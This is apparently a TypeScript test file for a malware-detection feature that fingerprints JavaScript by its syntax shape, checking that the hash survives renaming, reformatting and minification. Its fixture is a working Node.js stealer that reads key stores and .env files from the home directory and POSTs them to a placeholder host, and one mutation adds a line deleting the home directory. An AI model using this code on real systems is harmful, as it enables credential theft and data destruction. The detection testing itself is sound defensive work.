import { renamedLocals } from '../../../../../test/attacks/disguise/javascript';
import { readJavascript } from './read-javascript';

const CODE = String.raw`
'use strict';
const fs = require('fs');
const os = require('os');
const https = require('https');
const home = os.homedir();
const places = ['.a/id.json', '.b/keystore', '.env'];
function read(place) {
  const full = home + '/' + place;
  if (fs.statSync(full).isDirectory()) return fs.readdirSync(full).map((name) => fs.readFileSync(full + name, 'latin1'));
  return [fs.readFileSync(full, 'latin1')];
}
const loot = {};
for (const place of places) {
  try { loot[place] = read(place); } catch (absent) {}
}
const text = JSON.stringify({ id: 'x', text: JSON.stringify(loot).slice(0, 4000) });
const request = https.request({ hostname: 'a.invalid', path: '/b', method: 'POST', headers: { accept: 'c' } });
request.on('error', () => {});
request.end(text, undefined, true);
`;
const shapeOf = (code: string, file = 'a.js') => readJavascript(file, code).shape;

/** The same, as a minifier would write it. */
const MINIFIED = String.raw`const a=require("node:fs"),b=require("os"),c=require("https");const d=b.homedir(),e=["q"];function f(g){const h=d+"/"+g;if(a.statSync(h).isDirectory())return a["readdirSync"](h).map(i=>{return a.readFileSync(h+i,"x")}.bind?null:null);return[a.readFileSync(h,"y")]}`;

describe('ast/javascript/shape', () => {
  it('is there for a file that does something, and not for little or for a table', () => {
    expect(shapeOf(CODE)).toMatch(/^[0-9a-f]{32}$/);
    expect(shapeOf("module.exports = require('./lib');")).toBeUndefined();
    expect(shapeOf(`module.exports = [${'{ a: 1, b: "x" },'.repeat(500)}].map(String);`)).toBeUndefined();
    expect(shapeOf(MINIFIED)).not.toBe(shapeOf(CODE));
  });

  it.each<[string, (code: string) => string]>([
    ['names', (code) => renamedLocals(code, 'seed')],
    ['other names', (code) => code.replace(/\b(home|loot|place|places|read|full)\b/g, '_$1')],
    ['texts and numbers', (code) => code.replace("'a.invalid'", "'bcd.invalid'").replace('4000', '9')],
    ['a longer list', (code) => code.replace("'.env'", "'.env', '.f', '.g'")],
    ['whitespace', (code) => code.replace(/\n */g, '\n\n\t')],
    ['comments', (code) => code.replace(/;\n/g, '; // note\n/* more */\n')],
    ['var for const', (code) => code.replace(/\bconst (?!place of)/g, 'var ')],
    ['one declaration for three', (code) => code.replace("require('fs');\nconst os", "require('fs'),\n os")],
    ['members in brackets', (code) => code.replace('.homedir()', '["homedir"]()')],
    ['keys in quotes', (code) => code.replace('{ id:', '{ "id":')],
    [
      'blocks',
      (code) =>
        code.replace(
          "return [fs.readFileSync(full, 'latin1')];",
          "{ return ([fs.readFileSync(full, 'latin1')]); }",
        ),
    ],
    ['commas for statements', (code) => code.replace('() => {});\nrequest.end', '() => {}), request.end')],
    ['minified constants', (code) => code.replace('undefined, true', 'void 0, !0')],
    ['node: before modules', (code) => code.replace("'fs'", "'node:fs'")],
    ['no directive', (code) => code.replace("'use strict';", '')],
    ['another catch', (code) => code.replace('(absent)', '(e)')],
  ])('stays with %s', (_, change) => {
    const changed = change(CODE);

    expect(changed).not.toBe(CODE);
    expect(shapeOf(changed)).toBe(shapeOf(CODE));
  });

  it('stays when types are added', () => {
    const typed = CODE.replace('read(place)', 'read(place: string): string[]').replace(
      'const loot = {}',
      'interface Loot { [place: string]: string[] }\nconst loot: Loot = {} as Loot',
    );

    expect(shapeOf(typed, 'a.ts')).toBe(shapeOf(CODE));
  });

  it.each<[string, (code: string) => string]>([
    ['another call', (code) => code.replace('statSync', 'lstatSync')],
    ['another module', (code) => code.replace("'https'", "'http'")],
    ['another global', (code) => code.replace('JSON.stringify(loot)', 'String(loot)')],
    ['another operator', (code) => code.replace("home + '/' + place", "home - '/' + place")],
    ['a statement more', (code) => `${code}\nfs.rmSync(home);`],
    ['a statement less', (code) => code.replace(/^request\.on.*$/m, '')],
    ['another key', (code) => code.replace('{ id:', '{ to:')],
    ['another constant', (code) => code.replace('undefined, true', 'undefined, false')],
  ])('is another with %s', (_, change) => {
    expect(shapeOf(change(CODE))).toMatch(/^[0-9a-f]{32}$/);
    expect(shapeOf(change(CODE))).not.toBe(shapeOf(CODE));
  });

  it('takes hostile depth and width', () => {
    const deep = `${CODE}\nx = ${'['.repeat(900)}${']'.repeat(900)};`;
    const wide = `${CODE}\nconst [${Array.from({ length: 200_000 }, (_, n) => `a${n}`).join()}] = x;`;

    expect(shapeOf(deep)).toMatch(/^[0-9a-f]{32}$/);
    expect(shapeOf(wide)).toMatch(/^[0-9a-f]{32}$/);
  });
});
